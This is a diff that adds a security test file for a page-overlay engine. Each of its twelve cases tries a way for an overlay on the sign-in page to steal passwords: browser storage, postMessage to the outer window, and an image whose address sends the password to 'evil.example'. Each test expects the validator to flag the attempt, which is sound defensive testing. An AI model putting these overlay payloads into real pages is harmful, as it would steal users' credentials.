@@ -1,0 +1,90 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { Json, OverlayOperation } from '#engine/document';
+import { type ChangedPages, readChangedPages } from '#tests/security/changed-page.ts';
+import { button, codesOf, put, set, setPage, shippedAt, text } from '#tests/security/changes.ts';
+
+let pages: ChangedPages;
+beforeAll(async () => {
+  pages = await readChangedPages();
+});
+
+const password = { $: 'state.password' };
+
+describe('P44 attack 1: an overlay on the sign-in page takes passwords', () => {
+  it.each<[string, () => OverlayOperation[]]>([
+    [
+      'a password kept in the browser as it is typed',
+      () => [set('password', ['on'], { change: [{ do: 'keep', key: 'x.stolen', value: password }] })],
+    ],
+    [
+      'a password taken from the event',
+      () => [set('password', ['on'], { change: [{ do: 'keepInTab', key: 'x.stolen', value: { $: 'event.value' } }] })],
+    ],
+    [
+      'the whole state kept',
+      () => [set('password', ['on'], { blur: [{ do: 'keepInTab', key: 'x.stolen', value: { $: 'state' } }] })],
+    ],
+    [
+      'a password in the address of a picture',
+      () => [
+        put('card', {
+          id: 'x.pixel',
+          widget: 'Image',
+          props: { src: { $: "'https://evil.example/?' + state.password" }, alt: '' },
+        }),
+      ],
+    ],
+    ['a password shown', () => [put('card', { id: 'x.text', widget: 'Text', props: { text: password } })]],
+    [
+      'another field on the same state',
+      () => [
+        put('card', { id: 'x.copy', widget: 'TextField', props: { label: text('Copy') }, bind: 'state.password' }),
+      ],
+    ],
+    [
+      'a password sent to the window around',
+      () => [put('card', button([{ do: 'postMessage', type: 'stolen', payload: password }]))],
+    ],
+    [
+      'what was stolen before sent on',
+      () => [
+        setPage(
+          ['load'],
+          [
+            {
+              do: 'recall',
+              key: 'stolen',
+              path: 'state.username',
+              then: [{ do: 'postMessage', type: 'stolen', payload: { $: 'state.username' } }],
+            },
+          ],
+          pages.source('session.login').load as unknown as Json,
+        ),
+      ],
+    ],
+    ['a condition on the password', () => [set('subtitle', ['when'], "state.password.startsWith('a')")]],
+    [
+      'a link to an address without https',
+      () => [put('card', { id: 'x.link', widget: 'Link', props: { label: text('Help'), href: 'http://example.org' } })],
+    ],
+    [
+      'a frame',
+      () => [
+        put('card', { id: 'x.frame', widget: 'Frame', props: { label: text('Frame'), src: 'https://example.org' } }),
+      ],
+    ],
+    [
+      'another call of the form',
+      () => [
+        set(
+          'form',
+          ['on', 'submit'],
+          [{ do: 'keep', key: 'x.stolen', value: password }],
+          shippedAt(pages, 'session.login', 'form', 'on', 'submit'),
+        ),
+      ],
+    ],
+  ])('%s', (_title, operations) => {
+    expect(codesOf(pages, 'session.login', ...operations())).not.toEqual([]);
+  });
+});
